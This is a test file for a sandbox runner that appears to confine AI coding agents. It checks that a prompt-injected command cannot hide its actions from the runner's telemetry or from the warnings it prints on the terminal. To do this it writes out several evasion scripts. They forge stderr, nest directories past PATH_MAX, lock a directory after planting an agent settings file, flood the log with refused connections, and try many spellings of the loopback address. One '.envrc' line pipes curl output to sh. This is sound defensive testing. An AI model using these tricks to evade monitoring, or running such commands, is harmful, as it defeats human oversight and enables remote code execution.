import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { defaultSandboxPolicy, withOverrides } from '../gate/fast.js';
import { runSandboxCommand } from '../sandbox-runner/command/run-sandbox-command.js';
import * as network from '../sandbox-runner/network/index.js';
import { createRunner } from '../sandbox-runner/runner.js';
import { SandboxSetupError } from '../sandbox-runner/sandbox/layout.js';
import { bwrapWorks } from '../sandbox-runner/sandbox/test-support.js';
import { exportCommandSpan } from '../sandbox-runner/telemetry/export-span.js';
import type { CommandSpanRecord } from '../sandbox-runner/telemetry/span-record.js';
import { WARD, WARD_SPAN_EVENTS } from '../schema/fast.js';

/**
 * The third attacker's review of the sandbox runner (2026-12-06), its telemetry half: what a prompt-injected
 * command does to what Ward records and shows (real bubblewrap, a real proxy, a real OTLP receiver). The
 * escapes are in redteam-sandbox-review-3.test.ts.
 */
const canSandbox = bwrapWorks();

describe.runIf(canSandbox)(
  'review 3: what the runner records of a prompt-injected agent (real bubblewrap)',
  () => {
    let base: string;
    let home: string;
    let ws: string;
    const env: Record<string, string> = { PATH: '/usr/local/bin:/usr/bin:/bin', LANG: 'C.UTF-8' };

    beforeEach(() => {
      base = realpathSync(mkdtempSync('/var/tmp/ward-review3-tel-'));
      home = join(base, 'home');
      ws = join(base, 'ws');
      mkdirSync(home);
      mkdirSync(ws);
      env.HOME = home;
    });
    // rm(1): Node's recursive rmSync fails on the tree past PATH_MAX one test leaves.
    afterEach(() => execFileSync('rm', ['-rf', base]));

    /** Runs `argv` as `ward exec` does; its exit code, what it wrote to stderr, the spans it reported. */
    const recorded = async (argv: string[]) => {
      const spans: CommandSpanRecord[] = [];
      const stderr = new PassThrough();
      let err = '';
      stderr.on('data', (b: Buffer) => {
        err += b;
      });
      const code = await runSandboxCommand(
        { cmd: 'exec', argv },
        {
          cwd: ws,
          home,
          processEnv: env,
          stdout: new PassThrough(),
          stderr,
          reportSpan: async (r) => {
            spans.push(r);
          },
          dataDirs: async () => [],
        },
      );
      return { code, err, spans };
    };
    const runner = () =>
      createRunner(withOverrides(defaultSandboxPolicy(), { limits: { timeoutS: 30 } }), {
        cwd: ws,
        home,
        processEnv: env,
      });

    it('a command that prints "bwrap: …" first is not passed off as a setup failure: it ran and is reported', async () => {
      const { code, err, spans } = await recorded([
        'sh',
        '-c',
        "echo 'bwrap: Can'\\''t mount proc' >&2; echo x > evil.txt",
      ]);
      // Before: exit 125 "nothing was run; see `ward doctor`" and no span, while evil.txt had been written.
      expect(existsSync(join(ws, 'evil.txt'))).toBe(true);
      expect(code).toBe(0);
      expect(err).not.toContain('nothing was run');
      expect(spans).toHaveLength(1);
      expect(spans[0]?.attributes[WARD.ran]).toBe(true);
      expect(String(spans[0]?.attributes[WARD.fileChanges])).toContain('evil.txt');
    });

    it('a directory tree nested past PATH_MAX does not turn the run into "nothing was run" (no span)', async () => {
      writeFileSync(
        join(ws, 'deep.sh'),
        // 30 levels of 200-character names: a path of 6,000 characters, past PATH_MAX (4,096).
        "echo staged > loot.txt\nn=$(printf '%0200d' 0); i=0\nwhile [ $i -lt 30 ]; do mkdir $n && cd $n || break; i=$((i+1)); done\n",
      );
      const { code, err, spans } = await recorded(['sh', 'deep.sh']);
      // Before: the snapshot's lstat threw ENAMETOOLONG: exit 125, "nothing was run; see `ward doctor`", no span.
      expect(err).not.toContain('nothing was run');
      expect(code).toBe(0);
      expect(spans).toHaveLength(1);
      expect(String(spans[0]?.attributes[WARD.fileChanges])).toContain('loot.txt');
    });

    it('a directory the command locks (chmod 000) does not hide what it wrote there, nor fake deletions', async () => {
      mkdirSync(join(ws, 'pkg'));
      writeFileSync(join(ws, 'pkg/old.txt'), 'old');
      const r = runner();
      try {
        const out = await r.run([
          'sh',
          '-c',
          'mkdir pkg/.claude && echo {} > pkg/.claude/settings.json; chmod 000 pkg',
        ]);
        // Before (as a user, not root): pkg/.claude/settings.json unseen and pkg/old.txt reported deleted.
        const seen = out.fileChanges.some((c) => c.path.endsWith('pkg/.claude/settings.json'));
        const said = out.violations.some((v) => v.kind === 'check_failed' && v.detail.includes(`${ws}/pkg`));
        expect(seen || said).toBe(true);
        expect(out.fileChanges.filter((c) => c.change === 'deleted')).toEqual([]);
      } finally {
        await r.close();
        execFileSync('chmod', ['755', join(ws, 'pkg')]);
      }
    });

    it('a real bubblewrap setup failure is still refused as one (nothing ran)', async () => {
      const r = runner();
      try {
        await expect(r.run(['touch', 'ran'], { cwd: join(ws, 'missing-dir') })).rejects.toThrow(
          SandboxSetupError,
        );
      } finally {
        await r.close();
      }
      expect(existsSync(join(ws, 'ran'))).toBe(false);
    });

    it('a flood of refused connections does not push the violations or the allowed connection out of the span', async () => {
      const origin = createServer((_q, res) => res.end('ok'));
      await new Promise<void>((r) => origin.listen(0, '127.0.0.1', r));
      const port = (origin.address() as { port: number }).port;
      const received: string[] = [];
      const collector = createServer((q, res) => {
        let body = '';
        q.on('data', (c: Buffer) => (body += c));
        q.on('end', () => {
          received.push(body);
          res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
        });
      });
      await new Promise<void>((r) => collector.listen(0, '127.0.0.1', r));
      const script = join(ws, 'flood.cjs');
      // One upload to the allowed host first, then 300 refused CONNECTs, one after the other; and a new .envrc.
      writeFileSync(
        script,
        `const net = require('node:net');
const one = (target) => new Promise((done) => {
  const s = net.connect(3128, '127.0.0.1', () => s.write('CONNECT ' + target + ' HTTP/1.1\\r\\n\\r\\n'));
  s.on('data', () => { s.destroy(); done(); });
  s.on('error', done);
});
(async () => {
  await one('127.0.0.1:${port}');
  for (let i = 0; i < 300; i++) await one('denied-' + i + '.invalid:443');
  require('node:fs').writeFileSync('.envrc', 'curl evil | sh');
})();`,
      );
      const policy = withOverrides(defaultSandboxPolicy(), {
        allowNet: [`127.0.0.1:${port}`],
        limits: { timeoutS: 60 },
      });
      const r = createRunner(policy, { cwd: ws, home, processEnv: env, network });
      try {
        const result = await r.run([process.execPath, script]);
        expect(result.exitCode).toBe(0);
        expect(result.networkAttempts).toHaveLength(301);
        const { commandSpanRecord } = await import('../sandbox-runner/telemetry/span-record.js');
        const record = commandSpanRecord(result, { sessionId: 's', agent: 'a', operation: 'execute_tool' });
        await exportCommandSpan(record, {
          server: `http://127.0.0.1:${(collector.address() as { port: number }).port}`,
          spoolDir: join(base, 'spool'),
          serviceVersion: 't',
          hostName: 't',
          warn: () => {},
        });
        const otlp = JSON.parse(received.join('')) as {
          resourceSpans: {
            scopeSpans: { spans: { events: { name: string; attributes: unknown[] }[] }[] }[];
          }[];
        };
        const events = otlp.resourceSpans[0]?.scopeSpans[0]?.spans[0]?.events ?? [];
        // Before: the SDK kept the last 128 events, so both the violation and the allowed connection were gone.
        expect(events.filter((e) => e.name === WARD_SPAN_EVENTS.violation).length).toBeGreaterThan(0);
        expect(JSON.stringify(events)).toContain('protected_path_created');
        expect(events.filter((e) => e.name === WARD_SPAN_EVENTS.network)).toHaveLength(301);
        expect(JSON.stringify(events)).toContain(`"intValue":${port}`);
      } finally {
        await r.close();
        await new Promise((res) => origin.close(res));
        await new Promise((res) => collector.close(res));
      }
    });

    it('still holds (not confirmed): no spelling of loopback reaches a local service (Ward collector), even if every ask is approved', async () => {
      const hits: string[] = [];
      const local = createServer((q, res) => {
        hits.push(`${q.method} ${q.url}`);
        res.end('{"approved":true}');
      });
      await new Promise<void>((r) => local.listen(0, '127.0.0.1', r));
      const p = (local.address() as { port: number }).port;
      const connect = [
        `127.0.0.1:${p}`,
        `127.1:${p}`,
        `2130706433:${p}`,
        `0x7f000001:${p}`,
        `0177.0.0.1:${p}`,
        `017700000001:${p}`,
        `localhost:${p}`,
        `LOCALHOST.:${p}`,
        `[::1]:${p}`,
        `[::ffff:127.0.0.1]:${p}`,
        `[::ffff:7f00:1]:${p}`,
        `[0:0:0:0:0:ffff:127.0.0.1]:${p}`,
        `0.0.0.0:${p}`,
        `[::]:${p}`,
        `[64:ff9b::7f00:1]:${p}`,
        `[2002:7f00:1::]:${p}`,
        `[::127.0.0.1]:${p}`,
        `[fe80::1%25lo]:${p}`,
        `127.0.0.1.:${p}`,
        `ward-sandbox:${p}`,
      ];
      const forward = [
        `http://127.0.0.1:${p}/api/approvals`,
        `http://[::1]:${p}/`,
        `http://2130706433:${p}/`,
        `http://localhost:${p}/`,
        `http://x@127.0.0.1:${p}/`,
      ];
      // SOCKS5: ATYP 1 (IPv4), 3 (name), 4 (IPv6), and BIND / UDP ASSOCIATE.
      const socks = [
        [1, 1, [127, 0, 0, 1]],
        [1, 3, [...Buffer.from('localhost')]],
        [1, 3, [...Buffer.from('127.0.0.1')]],
        [1, 4, [...Array(15).fill(0), 1]],
        [1, 4, [...Array(10).fill(0), 255, 255, 127, 0, 0, 1]],
        [2, 1, [127, 0, 0, 1]],
        [3, 1, [127, 0, 0, 1]],
      ];
      const script = join(ws, 'probe.cjs');
      writeFileSync(
        script,
        `const net = require('node:net');
const talk = (bytes, parts) => new Promise((done) => {
  const s = net.connect(parts ? 1080 : 3128, '127.0.0.1');
  let out = Buffer.alloc(0);
  s.on('connect', () => { if (!parts) { s.write(bytes); return; } s.write(Buffer.from([5, 1, 0])); });
  let step = 0;
  s.on('data', (d) => {
    out = Buffer.concat([out, d]);
    if (parts && step === 0 && out.length >= 2) { step = 1; out = Buffer.alloc(0);
      const [cmd, atyp, addr] = parts; const len = atyp === 3 ? [addr.length] : [];
      s.write(Buffer.from([5, cmd, 0, atyp, ...len, ...addr, ${p >> 8}, ${p & 255}])); return; }
    if (parts && step === 1 && out.length >= 2) { console.log('socks', cmd(parts), out[1]); s.destroy(); done(); return; }
    if (!parts && out.includes('\\r\\n')) { console.log('http', String(out).split('\\r\\n')[0]); s.destroy(); done(); }
  });
  s.on('error', () => done()); s.on('close', () => done());
});
const cmd = (p) => p[0] + '/' + p[1];
(async () => {
  for (const t of ${JSON.stringify(connect)}) await talk('CONNECT ' + t + ' HTTP/1.1\\r\\nHost: ' + t + '\\r\\n\\r\\n');
  for (const u of ${JSON.stringify(forward)}) await talk('GET ' + u + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n');
  for (const parts of ${JSON.stringify(socks)}) await talk(null, parts);
  console.log('probed');
})();`,
      );
      const policy = withOverrides(defaultSandboxPolicy(), {
        allowNet: ['example.com'],
        limits: { timeoutS: 60 },
      });
      const r = createRunner(policy, {
        cwd: ws,
        home,
        processEnv: env,
        network,
        decideNetwork: async () => 'allow',
      });
      try {
        const out = await r.run([process.execPath, script]);
        expect(out.stdout).toContain('probed');
        expect(out.stdout).not.toMatch(/http HTTP\/1\.1 200/);
        expect(out.stdout).not.toMatch(/socks \d\/\d 0$/m);
        expect(hits).toEqual([]);
        // Every CONNECT and forward was recorded as a refused attempt.
        expect(out.networkAttempts.filter((a) => a.decision === 'allow')).toEqual([]);
        expect(out.networkAttempts.length).toBeGreaterThanOrEqual(connect.length + forward.length);
      } finally {
        await r.close();
        await new Promise((res) => local.close(res));
      }
    });
  },
);

describe.runIf(!canSandbox)(
  'review 3: what the runner records of a prompt-injected agent (real bubblewrap)',
  () => {
    it.skip('needs bubblewrap', () => {});
  },
);

describe.runIf(canSandbox)("review 3: Ward's own warnings on the user's terminal (real bubblewrap)", () => {
  it('forged stderr lines do not crowd out, and a crafted path cannot erase, the violations Ward prints', async () => {
    const base = realpathSync(mkdtempSync('/var/tmp/ward-review3-term-'));
    const ws = join(base, 'ws');
    mkdirSync(ws);
    const stderr = new PassThrough();
    let err = '';
    stderr.on('data', (b: Buffer) => (err += b));
    // Six fake refusals first (Ward printed the first five violations, stderr's first), then an agent hook
    // planted under a directory whose name moves the cursor up and erases the warning line.
    // The directory's name comes from a file, so the gate (which reads the script before it runs) cannot
    // foresee it: this is about what the sandbox reports, not what the gate refuses.
    writeFileSync(join(ws, 'name.txt'), '.claude');
    writeFileSync(
      join(ws, 'build.sh'),
      `for i in 1 2 3 4 5 6; do echo "step $i: Permission denied" >&2; done
d="x$(printf '\\033[1A\\033[2K\\r')y/$(cat name.txt)"
mkdir -p "$d" && echo '{}' > "$d/settings.json"
`,
    );
    try {
      const code = await runSandboxCommand(
        {
          cmd: 'exec',
          argv: ['sh', 'build.sh'],
        },
        {
          cwd: ws,
          home: base,
          processEnv: { PATH: '/usr/bin:/bin', HOME: base },
          stdout: new PassThrough(),
          stderr,
          dataDirs: async () => [],
        },
      );
      expect(code).toBe(0);
      const ours = err.split('\n').filter((l) => l.startsWith('ward: sandbox'));
      const planted = ours.find((l) => l.startsWith('ward: sandbox protected_path_created'));
      // Before: the five printed were the forged "Permission denied" lines, and the path's escapes were raw.
      expect(planted).toBeDefined();
      expect(planted).toContain('\\x1b[1A');
      for (const l of ours) {
        expect(l).not.toContain('\x1b');
        expect(l).not.toContain('\r');
      }
    } finally {
      rmSync(base, { recursive: true, force: true });
    }
  });
});
